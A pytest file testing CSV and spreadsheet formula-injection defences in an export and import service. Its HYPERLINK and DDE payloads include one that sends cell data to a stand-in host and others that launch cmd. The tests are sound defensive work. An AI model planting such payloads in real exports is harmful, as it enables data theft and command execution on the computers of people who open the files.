"""No export carries a live formula: every text a user typed comes out of each xlsx, csv and template as text
(OWASP CSV-injection rules for CSV), real numbers stay numbers, and a formula typed into the template is
refused on import with its row named."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from services.access import Actor
from services.admin.audit_trail import AuditFilter, browse, to_csv
from services.exchange.formats import FORMATS, export_file
from services.exchange.import_xlsx import ImportRejected, import_answers
from services.exchange.safe_cells import csv_bytes, is_formula_like, safe_text
from store import audit
from store.db import connect
from store.models import Event

ADMIN = Actor(username="ortala", role="admin")


class _OldEvent(Event):
    """A kind of event no service records any more: the trail still reads and exports it."""

    name = "answer_saved"
    note: str
    value: int


HOSTILE = [
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"U")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def con(demo_copy: Path):
    root = demo_copy
    c = connect(root)
    # every place a user types text, each given a formula-like value
    units = [r[0] for r in c.execute("SELECT id FROM org_units ORDER BY id").fetchall()]
    for n, unit_id in enumerate(units):
        c.execute("UPDATE org_units SET name = ? WHERE id = ?", [f"{HOSTILE[n % len(HOSTILE)]} #{n}", unit_id])
    c.execute("UPDATE service_products SET name = ?", [HOSTILE[1]])
    c.execute("UPDATE periods SET name = ? || ' ' || CAST(id AS VARCHAR)", [HOSTILE[2]])
    c.execute("UPDATE users SET display_name = ?", [HOSTILE[3]])
    c.execute("UPDATE answers SET updated_by = ?", [HOSTILE[0]])
    c.execute("UPDATE indicator_notes SET note = ?", [HOSTILE[2]])
    c.execute("UPDATE evidence SET description = ?, file_name = ?", [HOSTILE[0], "=cmd.pdf"])
    c.execute("UPDATE verifications SET note = ?", [HOSTILE[3]])
    audit.append(c, actor=HOSTILE[0], event=_OldEvent(note=HOSTILE[1], value=-3), at=dt.datetime(2026, 1, 1))
    yield c
    c.close()


def _workbook_cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))  # not data_only: a formula would read as data_type 'f'
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                yield ws.title, c


@pytest.mark.parametrize("fmt", [f for f in FORMATS if f != "pdf" and f != "csv"])
@pytest.mark.parametrize("unit_code", [None, "DINSOS-SLRT"])
def test_no_workbook_export_holds_a_formula_and_user_text_is_kept_as_typed(con, fmt, unit_code):
    if unit_code:
        con.execute("UPDATE org_units SET name = ? WHERE code = ?", [HOSTILE[0], unit_code])
    data = export_file(con, ADMIN, fmt, unit_code=unit_code).data
    cells = list(_workbook_cells(data))
    formulas = [(sheet, c.coordinate, c.value) for sheet, c in cells if c.data_type == "f"]
    assert formulas == []
    texts = [c.value for _, c in cells if isinstance(c.value, str)]
    assert any(v.startswith('=HYPERLINK("http://contoh.invalid') for v in texts)  # shown as typed, not dropped
    # a later edit in Excel must not turn it into a formula either
    assert all(c.quotePrefix for _, c in cells if isinstance(c.value, str) and c.value.startswith("="))
    numbers = [c.value for _, c in cells if isinstance(c.value, (int, float)) and not isinstance(c.value, bool)]
    assert numbers, "scores and values must stay numbers"


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def _assert_neutral(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            if value[:1] in TRIGGERS:
                float(value.replace(",", "."))  # only a real (negative) number may start like a formula


def test_answers_csv_neutralises_every_formula_like_cell_and_keeps_numbers(con):
    rows = _csv_rows(export_file(con, ADMIN, "csv").data)
    _assert_neutral(rows)
    flat = [v for r in rows for v in r]
    assert "'" + HOSTILE[0] in flat  # the user name column, as typed behind the apostrophe
    assert "'" + HOSTILE[4] + " #4" in flat or "'" + HOSTILE[5] + " #5" in flat  # unit names
    col = {h: i for i, h in enumerate(rows[0])}
    assert all(r[col["nilai"]] == "NA" or float(r[col["nilai"]].replace(",", ".")) >= 0 for r in rows[1:])
    # numbers stay numbers: a score is written bare (63,02), never behind the formula apostrophe
    assert all(r[col["nilai_total"]][:1] != "'" for r in rows[1:])


def test_audit_csv_neutralises_actor_and_payload(con):
    lines = browse(con, ADMIN, AuditFilter())
    rows = _csv_rows(to_csv(lines, event_label=str))
    _assert_neutral(rows)
    assert any(v == "'" + HOSTILE[0] for r in rows for v in r)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+62 812", "'+62 812"),
        ("-catatan", "'-catatan"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("  =1+2", "'  =1+2"),
        ("\uff1d1+2", "'\uff1d1+2"),
        ("-1.5", "-1.5"),
        ("+3", "+3"),
        ("Dinas = Sosial", "Dinas = Sosial"),
        (-2, -2),
        (2.5, 2.5),
        (None, ""),
    ],
)
def test_owasp_neutralisation_of_single_values(value, expected):
    assert safe_text(value) == expected


def test_a_separator_or_line_break_cannot_start_a_new_cell():
    data = csv_bytes(["a", "b"], [['x",=1+2', "y\n=2+3"]])
    rows = _csv_rows(data)
    assert rows[1] == ['x",=1+2', "y\n=2+3"] and len(rows) == 2
    assert not is_formula_like("12")


@pytest.mark.parametrize(("lang", "sep", "score"), [("id", ";", "63,02"), ("en", ",", "63.02")])
def test_csv_numbers_follow_the_language_and_text_stays_neutralised(lang, sep, score):
    data = csv_bytes(["nilai", "nama", "catatan"], [[63.015, "=HYPERLINK(1)", f"a{sep}b"]], lang=lang)
    text = data.decode("utf-8-sig")
    assert text.splitlines()[1].startswith(score + sep)  # bare number: not quoted, no apostrophe
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))
    assert rows[1] == [score, "'=HYPERLINK(1)", f"a{sep}b"]  # the separator inside text stays in its cell


def _template_with(con, header: str, value) -> tuple[bytes, int]:
    wb = load_workbook(io.BytesIO(export_file(con, ADMIN, "template", unit_code="DINSOS-SLRT").data))
    ws = wb["Jawaban"]
    cols = {c.value: c.column for c in ws[1]}
    row = 2 + 3
    ws.cell(row, cols[header]).value = value
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue(), row


@pytest.mark.parametrize(
    ("header", "value"), [("Nilai", "=1+2"), ("Nilai", "=SUM(A1:A3)"), ("Jumlah responden", "=2*2"), ("Subjek", "=A1")]
)
def test_a_formula_in_the_template_is_refused_with_its_row_named(con, header, value):
    data, row = _template_with(con, header, value)
    before = con.execute("SELECT count(*), max(updated_at) FROM answers").fetchone()
    with pytest.raises(ImportRejected) as caught:
        import_answers(con, ADMIN, data)
    problems = caught.value.problems
    assert [(p.row, p.sheet) for p in problems] == [(row, "Jawaban")]
    assert "rumus" in problems[0].reason and header in problems[0].reason and value in problems[0].reason
    assert f"baris {row}" in str(caught.value)
    assert con.execute("SELECT count(*), max(updated_at) FROM answers").fetchone() == before


def test_text_that_merely_starts_with_an_equals_sign_is_not_taken_for_a_formula(con):
    # a unit named "=HYPERLINK(..." exported to the template imports back unchanged (its cells are text)
    data = export_file(con, ADMIN, "xlsx").data
    result = import_answers(con, ADMIN, data)
    assert result.written == 0


def test_every_spreadsheet_writer_goes_through_safe_cells():
    # colleagues' new exports must use the one safe-cell writer: no raw csv.writer or worksheet append elsewhere
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.glob("[a-z]*/**/*.py"):
        if "tests" in path.parts or path.name == "safe_cells.py":
            continue
        text = path.read_text(encoding="utf-8")
        for needle in (
            r"csv\.writer\(",
            r"csv\.DictWriter\(",
            r"\bws\.append\(",
            r"(?<!audit_trail)\.to_csv\(",
            "xlsxwriter",
        ):
            if re.search(needle, text):
                offenders.append(f"{path.relative_to(root)}: {needle}")
    assert offenders == []


def test_pdf_shows_a_hostile_name_literally_without_links(con):
    from pypdf import PdfReader

    name = "[x](http://evil.invalid) **ztebal** <b>zhtml</b>"
    con.execute("UPDATE org_units SET name = ? WHERE code = 'DINSOS-SLRT'", [name])
    for unit_code in ("DINSOS-SLRT", None):
        reader = PdfReader(io.BytesIO(export_file(con, ADMIN, "pdf", unit_code=unit_code).data))
        text = "".join(page.extract_text() for page in reader.pages)
        assert "**ztebal**" in text and "<b>zhtml</b>" in text
        links = [a for page in reader.pages for a in (page.get("/Annots") or [])]
        assert links == []
